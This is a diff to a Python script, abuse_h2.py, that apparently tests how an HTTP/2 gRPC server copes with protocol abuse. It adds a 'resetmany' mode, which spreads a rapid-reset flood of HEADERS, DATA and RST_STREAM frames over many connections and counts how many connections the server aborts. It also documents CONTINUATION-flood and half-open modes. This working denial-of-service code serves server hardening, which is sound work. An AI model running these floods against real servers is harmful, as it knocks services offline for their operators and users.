@@ -13,7 +13,12 @@ usage:
       N x (HEADERS + DATA + RST_STREAM) as fast as the socket takes them;
       prints "sent N", keeps the connection open HOLD seconds more (1),
       prints "closing" and closes it. With "whole" the DATA ends the
-      stream (a whole request) before the reset.
+      stream (a whole request) before the reset. When the server aborts
+      the connection it prints "aborted by the server after K streams".
+  abuse_h2.py resetmany ADDR C N PROJECT SERVICE
+      The reset flood spread over C connections, N streams (cut short)
+      on each, one connection after the other; holds them 2 s and prints
+      "sent C x N, A aborted" (A: connections the server aborted).
   abuse_h2.py continuation ADDR SECS
       HEADERS without END_HEADERS, then empty CONTINUATION frames for
       SECS seconds or until the server closes the connection; prints
@@ -164,6 +169,33 @@ def reset(addr, n, project, service, hold, whole):
     s.close()
 
 
+def resetmany(addr, nconn, n, project, service):
+    conns = [connect(addr) for _ in range(nconn)]
+    for s, c in conns:
+        pump(s, c, 0.05)
+    body = grpc_frame(request(project, service))
+    aborted = 0
+    for s, c in conns:
+        try:
+            for _ in range(n):
+                sid = c.get_next_available_stream_id()
+                c.send_headers(sid, headers(addr))
+                c.send_data(sid, body)
+                c.reset_stream(sid)
+            s.sendall(c.data_to_send())
+        except (ConnectionResetError, BrokenPipeError):
+            aborted += 1
+    time.sleep(2)
+    for s, c in conns:
+        try:
+            if "closed" in pump(s, c, 0):
+                aborted += 1
+        except OSError:
+            aborted += 1
+        s.close()
+    print("sent %d x %d, %d aborted" % (nconn, n, aborted), flush=True)
+
+
 def halfopen(addr, n, secs):
     s, c = connect(addr)
     pump(s, c, 0.5)
@@ -213,6 +245,8 @@ def main():
     elif mode == "reset":
         reset(a[0], int(a[1]), a[2], a[3], float(a[4]) if len(a) > 4 else 1.0,
               len(a) > 5 and a[5] == "whole")
+    elif mode == "resetmany":
+        resetmany(a[0], int(a[1]), int(a[2]), a[3], a[4])
     elif mode == "continuation":
         continuation(a[0], float(a[1]))
     elif mode == "halfopen":
